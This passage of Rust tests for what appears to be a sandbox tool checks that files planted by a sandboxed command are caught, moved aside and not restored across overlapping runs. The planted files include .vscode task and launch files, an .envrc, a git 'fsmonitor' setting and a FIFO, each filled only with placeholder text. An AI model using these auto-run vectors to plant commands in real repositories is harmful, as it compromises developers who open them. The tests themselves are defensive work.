        let vscode = root.join(".vscode");
        let other = Other::start();
        let pa = policy(&root, PATHS, &[]);
        let a = other.as_it(|| Checks::record(&pa, Some(&cache), None, true).unwrap());
        std::fs::write(vscode.join("tasks.json"), "evil").unwrap();
        let pb = policy(&root, PATHS, &[]);
        let b = Checks::record(&pb, Some(&cache), None, true).unwrap();
        assert!(b.watch.iter().any(|(w, _)| *w == vscode), "{:?}", b.watch);
        // What A did not change is copied by B as ever.
        assert!(!b.watch.iter().any(|(w, _)| w.ends_with(".git/hooks")));
        let (clean, said) = verify(a);
        assert!(clean, "{said:?}");
        assert!(!vscode.join("tasks.json").exists());
        std::fs::write(vscode.join("launch.json"), "evil").unwrap();
        let (clean, said) = verify(b);
        assert!(clean, "{said:?}");
        for planted in ["tasks.json", "launch.json"] {
            assert!(!vscode.join(planted).exists(), "{planted}: {said:?}");
        }
        assert!(root.join(".vscode.sbx-blocked/tasks.json").exists());
        assert!(root.join(".vscode.sbx-blocked-2/launch.json").exists());
        // Without another run going, it is copied again.
        std::fs::create_dir(&vscode).unwrap();
        let p = policy(&root, PATHS, &[]);
        drop(other);
        let c = Checks::record(&p, Some(&cache), None, true).unwrap();
        assert!(!c.watch.iter().any(|(w, _)| *w == vscode), "{:?}", c.watch);
        assert_eq!(verify(c), (true, vec![]));
    }

    /// Run A's command wrote a setting that runs a command into the
    /// config; run B, starting meanwhile, takes A's content from before
    /// for its own: the setting is never put back, whichever run ends
    /// first.
    #[test]
    fn a_config_another_run_changed_keeps_that_runs_content_from_before() {
        if !has_git() {
            return;
        }
        for a_first in [true, false] {
            let tmp = tempfile::tempdir().unwrap();
            let (root, cache) = (tmp.path().join("p"), tmp.path().join("cache"));
            project(&root);
            let config = root.join(".git/config");
            let other = Other::start();
            let pa = policy(&root, PATHS, &[".git/config"]);
            let a = other.as_it(|| Checks::record(&pa, Some(&cache), None, true).unwrap());
            std::fs::write(&config, format!("{BASE}\tfsmonitor = evil\n")).unwrap();
            let pb = policy(&root, PATHS, &[".git/config"]);
            let b = Checks::record(&pb, Some(&cache), None, true).unwrap();
            // Kept by its content, not swept.
            assert!(!b.watch.iter().any(|(w, _)| *w == config), "{:?}", b.watch);
            let (first, second) = if a_first { (a, b) } else { (b, a) };
            let said = [verify(first).1, verify(second).1].concat();
            assert_eq!(std::fs::read_to_string(&config).unwrap(), BASE, "{said:?}");
            let kept = std::fs::read_to_string(root.join(".git/config.sbx-blocked")).unwrap();
            assert!(kept.contains("fsmonitor"), "{said:?}");
            assert!(!root.join(".git/config.sbx-blocked-2").exists(), "{said:?}");
        }
    }

    /// The notes are read again once the copies are made: a run that began
    /// meanwhile, whose command changed a path copied, has the copies made
    /// again without it.
    #[test]
    fn a_run_that_began_meanwhile_is_seen_once_the_copies_are_made() {
        let tmp = tempfile::tempdir().unwrap();
        let (root, cache) = (tmp.path().join("p"), tmp.path().join("cache"));
        project(&root);
        let pb = policy(&root, PATHS, &[]);
        let dir = snapshot::dir(&cache).unwrap();
        let before = owners(&pb, &dir, &Others::default()).unwrap();
        assert!(before.kept.contains(&root.join(".envrc")));
        assert!(before.still_trusted(&Others::read(&cache)));
        let other = Other::start();
        let pa = policy(&root, PATHS, &[]);
        let a = other.as_it(|| Checks::record(&pa, Some(&cache), None, true).unwrap());
        assert!(before.still_trusted(&Others::read(&cache)));
        std::fs::write(root.join(".envrc"), "evil").unwrap();
        let later = Others::read(&cache);
        assert!(!before.still_trusted(&later));
        let again = owners(&pb, &dir, &later).unwrap();
        assert!(!again.kept.contains(&root.join(".envrc")));
        assert!(again.watch.iter().any(|(w, _)| *w == root.join(".envrc")));
        assert!(again.still_trusted(&later));
        assert!(verify(a).0);
    }

    /// The finding: a FIFO planted as the config of a repository that sbx
    /// moved aside (`a/.git.sbx-blocked`, which later walks take for a
    /// bare repository, so protect) made every later run refuse. It is
    /// fingerprinted, never opened: the run goes, and it is left alone.
    #[test]
    fn a_fifo_in_a_protected_path_does_not_refuse_the_run() {
        let (tx, rx) = std::sync::mpsc::channel();
        std::thread::spawn(move || {
            let tmp = tempfile::tempdir().unwrap();
            let (root, cache) = (tmp.path().join("p"), tmp.path().join("cache"));
            project(&root);
            let git = root.join("a/.git.sbx-blocked");
            std::fs::create_dir_all(git.join("hooks")).unwrap();
            std::fs::write(git.join("HEAD"), "ref: refs/heads/main\n").unwrap();
            let config = git.join("config");
            nix::unistd::mkfifo(&config, nix::sys::stat::Mode::S_IRWXU).unwrap();
            let paths = [
                PATHS,
                &[
                    ("a/.git.sbx-blocked/config", Kind::File),
                    ("a/.git.sbx-blocked/hooks", Kind::Dir),
                ],
            ]
            .concat();
            let mut runs = Vec::new();
            for _ in 0..2 {
                let p = policy(&root, &paths, &[]);
                let checks = Checks::record(&p, Some(&cache), None, true).unwrap();
                runs.push(verify(checks));
            }
            let still = std::fs::symlink_metadata(&config).map(|m| m.file_type());
            tx.send((
                runs,
                still.is_ok_and(|t| {
                    use std::os::unix::fs::FileTypeExt;
                    t.is_fifo()
                }),
            ))
            .unwrap();
        });
        let (runs, fifo) = rx
            .recv_timeout(std::time::Duration::from_secs(60))
            .expect("held, by a FIFO opened?");
        assert_eq!(runs, vec![(true, vec![]), (true, vec![])]);
        assert!(fifo);
    }

    /// A note written before the copies were all made: the command never
    /// started, so nothing is put back, and what was copied goes.
    #[test]
    fn a_run_killed_before_its_command_leaves_nothing_to_do() {
        let tmp = tempfile::tempdir().unwrap();
        let (root, cache) = (tmp.path().join("p"), tmp.path().join("cache"));
        project(&root);
        let p = policy(&root, PATHS, &[]);
        let dir = snapshot::dir(&cache).unwrap();
        let owners = owners(&p, &dir, &Others::default()).unwrap();
        let snapshot =
            Snapshot::plan(dir.clone(), &owners.kept, owners.configs, &p.writable).unwrap();
        let contents = journal::Contents {
            watch: &owners.watch,
            git_configs: &[],
            repositories: &[],
            snapshot: Some(&snapshot),
        };
        let note = journal::write(&cache, &contents).unwrap();
        std::fs::create_dir_all(dir.join("0")).unwrap();
        std::mem::forget(note);
        let key = journal::process_key(std::process::id()).unwrap();
        let note = journal::dir(&cache).join(format!("run-{key}.json"));
        std::fs::rename(&note, journal::dir(&cache).join("run-0-1.json")).unwrap();
        // The user's own change meanwhile stays.
        std::fs::write(root.join(".envrc"), "the user's").unwrap();
        assert!(journal::recover(&cache, &|_| {}));
        assert_eq!(
            std::fs::read_to_string(root.join(".envrc")).unwrap(),
            "the user's"
        );
        assert!(pending(&cache).is_empty());
    }
}
